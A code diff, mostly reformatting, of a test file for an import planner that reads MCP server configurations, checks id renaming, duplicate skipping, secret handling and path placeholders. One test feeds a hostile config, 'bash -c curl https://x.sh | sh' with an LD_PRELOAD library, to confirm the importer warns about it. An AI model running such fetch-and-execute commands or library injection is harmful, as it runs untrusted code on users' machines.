@@ -18,11 +18,14 @@ function ctx(existing: ServerConfig[] = [], over: Partial<PlanContext> = {}): Pl
     ...over,
   };
 }
-const plan = (doc: unknown, c = ctx(), fileName?: string) => planImport(readServerList(typeof doc === 'string' ? doc : JSON.stringify(doc), fileName ? { fileName } : {}), c);
+const plan = (doc: unknown, c = ctx(), fileName?: string) =>
+  planImport(readServerList(typeof doc === 'string' ? doc : JSON.stringify(doc), fileName ? { fileName } : {}), c);
 
 describe('planImport', () => {
   it('adds each server with an id from its name, the whole command line, and nothing approved or started', () => {
-    const [p] = plan({ mcpServers: { 'My Files': { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'] } } });
+    const [p] = plan({
+      mcpServers: { 'My Files': { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'] } },
+    });
     expect(p!.view).toMatchObject({
       action: 'add',
       id: 'my-files',
@@ -30,12 +33,20 @@ describe('planImport', () => {
       commandLine: "npx -y @modelcontextprotocol/server-filesystem '/Users/ada/My Docs'",
       warnings: [],
     });
-    expect(p!.config).toMatchObject({ id: 'my-files', transport: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'] });
+    expect(p!.config).toMatchObject({
+      id: 'my-files',
+      transport: 'stdio',
+      command: 'npx',
+      args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'],
+    });
   });
 
   it('renames on an id conflict (with the existing servers and within the file) and says so', () => {
     const existing: ServerConfig[] = [{ id: 'notes', name: 'Notes', transport: 'stdio', command: 'node', args: ['other.js'], env: [] }];
-    const planned = plan({ mcpServers: { notes: { command: 'uvx', args: ['notes-mcp'] }, Notes: { command: 'uvx', args: ['notes-mcp', '--v2'] } } }, ctx(existing));
+    const planned = plan(
+      { mcpServers: { notes: { command: 'uvx', args: ['notes-mcp'] }, Notes: { command: 'uvx', args: ['notes-mcp', '--v2'] } } },
+      ctx(existing),
+    );
     expect(planned.map((p) => [p.view.action, p.view.id, p.view.reason])).toEqual([
       ['rename', 'notes-2', 'the id "notes" is taken: it is added as "notes-2"'],
       ['rename', 'notes-3', 'the id "notes" is taken: it is added as "notes-3"'],
@@ -43,7 +54,16 @@ describe('planImport', () => {
   });
 
   it('skips a server that is already here with the same command line', () => {
-    const existing: ServerConfig[] = [{ id: 'everything', name: 'Everything', transport: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'], env: [] }];
+    const existing: ServerConfig[] = [
+      {
+        id: 'everything',
+        name: 'Everything',
+        transport: 'stdio',
+        command: 'npx',
+        args: ['-y', '@modelcontextprotocol/server-everything'],
+        env: [],
+      },
+    ];
     const [p] = plan({ mcpServers: { ev: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'] } } }, ctx(existing));
     expect(p!.view).toMatchObject({ action: 'skip', reason: 'already in this workspace as "Everything" (everything): same command line' });
     expect(p!.config).toBeUndefined();
@@ -53,7 +73,14 @@ describe('planImport', () => {
     const [p] = plan(
       {
         inputs: [{ type: 'promptString', id: 'key', description: 'Weather API key', password: true }],
-        servers: { weather: { type: 'stdio', command: 'uv', args: ['run', 'weather.py'], env: { API_KEY: '${input:key}', HOME_DIR: '${env:HOME}', URL: 'https://api.example.com', AUTH: 'Bearer ${input:key}' } } },
+        servers: {
+          weather: {
+            type: 'stdio',
+            command: 'uv',
+            args: ['run', 'weather.py'],
+            env: { API_KEY: '${input:key}', HOME_DIR: '${env:HOME}', URL: 'https://api.example.com', AUTH: 'Bearer ${input:key}' },
+          },
+        },
       },
       ctx(),
     );
@@ -66,22 +93,45 @@ describe('planImport', () => {
     const env = (p!.config as { env: Array<{ key: string; value?: string }> }).env;
     expect(env.filter((e) => e.value !== undefined).map((e) => e.key)).toEqual(['URL']);
     expect(JSON.stringify(p!.config)).not.toContain('${');
-    expect(p!.view.warnings.join('\n')).toContain('environment API_KEY, HOME_DIR, AUTH: the file refers to values it does not hold; fill them in');
+    expect(p!.view.warnings.join('\n')).toContain(
+      'environment API_KEY, HOME_DIR, AUTH: the file refers to values it does not hold; fill them in',
+    );
   });
 
   it('keeps credential-looking env values as secrets (out of mcp-lab.json), but never sends the value to the UI', () => {
-    const [p] = plan({ mcpServers: { gh: { command: 'docker', args: ['run', 'gh'], env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_abcdef', TOOLSETS: 'repos', X: 'sk-live-123' } } } });
+    const [p] = plan({
+      mcpServers: {
+        gh: {
+          command: 'docker',
+          args: ['run', 'gh'],
+          env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_abcdef', TOOLSETS: 'repos', X: 'sk-live-123' },
+        },
+      },
+    });
     expect(p!.view.env).toEqual([
       { key: 'GITHUB_PERSONAL_ACCESS_TOKEN', secret: true },
       { key: 'TOOLSETS', secret: false, value: 'repos' },
       { key: 'X', secret: true },
     ]);
     expect(JSON.stringify(p!.view)).not.toContain('ghp_abcdef');
-    expect((p!.config as { env: unknown[] }).env).toContainEqual({ key: 'GITHUB_PERSONAL_ACCESS_TOKEN', value: 'ghp_abcdef', secret: true });
+    expect((p!.config as { env: unknown[] }).env).toContainEqual({
+      key: 'GITHUB_PERSONAL_ACCESS_TOKEN',
+      value: 'ghp_abcdef',
+      secret: true,
+    });
   });
 
   it('fills in ${workspaceFolder} and ${userHome}, and says when the folder was a guess', () => {
-    const doc = { servers: { s: { type: 'stdio', command: '${userHome}/.local/bin/uv', args: ['run', '${workspaceFolder}/server.py'], cwd: '${workspaceFolder}' } } };
+    const doc = {
+      servers: {
+        s: {
+          type: 'stdio',
+          command: '${userHome}/.local/bin/uv',
+          args: ['run', '${workspaceFolder}/server.py'],
+          cwd: '${workspaceFolder}',
+        },
+      },
+    };
     const [known] = plan(doc, ctx([], { places: { workspaceFolder: '/repo', userHome: '/home/ada', pathSeparator: '/' } }));
     expect(known!.config).toMatchObject({ command: '/home/ada/.local/bin/uv', args: ['run', '/repo/server.py'], cwd: '/repo' });
     expect(known!.view.warnings).toEqual([]);
@@ -111,18 +161,40 @@ describe('planImport', () => {
       { key: 'Authorization', secret: true, needsValue: true, reference: 'Bearer ${input:tok}' },
       { key: 'X-Team', secret: false, value: 'core' },
     ]);
-    expect(planned[0]!.config).toMatchObject({ transport: 'http', url: 'https://mcp.example.com/mcp', headers: [{ key: 'Authorization', secret: true }, { key: 'X-Team', value: 'core', secret: false }] });
+    expect(planned[0]!.config).toMatchObject({
+      transport: 'http',
+      url: 'https://mcp.example.com/mcp',
+      headers: [
+        { key: 'Authorization', secret: true },
+        { key: 'X-Team', value: 'core', secret: false },
+      ],
+    });
     expect(planned[1]!.view.headers).toEqual([{ key: 'X-Api-Key', secret: true }]);
     expect(planned[2]!.view).toMatchObject({ action: 'skip', reason: expect.stringContaining('not http(s)') });
   });
 
   it('lists what deserves a second look before the command ever runs', () => {
     const [p] = plan({ mcpServers: { s: { command: 'bash', args: ['-c', 'curl https://x.sh | sh'], env: { LD_PRELOAD: '/tmp/x.so' } } } });
-    expect(p!.view.warnings).toEqual(expect.arrayContaining(['bash: runs its arguments as shell code', 'LD_PRELOAD: loads a library into every program it starts']));
+    expect(p!.view.warnings).toEqual(
+      expect.arrayContaining(['bash: runs its arguments as shell code', 'LD_PRELOAD: loads a library into every program it starts']),
+    );
   });
 
   it('keeps an mcp-lab.json entry whole: its id, restart policy and secret flags', () => {
-    const [p] = plan({ version: 1, servers: [{ id: 'Notes_1', name: 'Notes', transport: 'stdio', command: 'uv', args: ['run', 's.py'], env: [{ key: 'TOKEN', secret: true }], restart: { onCrash: false, maxRestarts: 2, windowSeconds: 30 } }] });
+    const [p] = plan({
+      version: 1,
+      servers: [
+        {
+          id: 'Notes_1',
+          name: 'Notes',
+          transport: 'stdio',
+          command: 'uv',
+          args: ['run', 's.py'],
+          env: [{ key: 'TOKEN', secret: true }],
+          restart: { onCrash: false, maxRestarts: 2, windowSeconds: 30 },
+        },
+      ],
+    });
     expect(p!.view).toMatchObject({ action: 'add', id: 'Notes_1', env: [{ key: 'TOKEN', secret: true, needsValue: true }] });
     expect(p!.config).toMatchObject({ id: 'Notes_1', restart: { onCrash: false, maxRestarts: 2 } });
   });
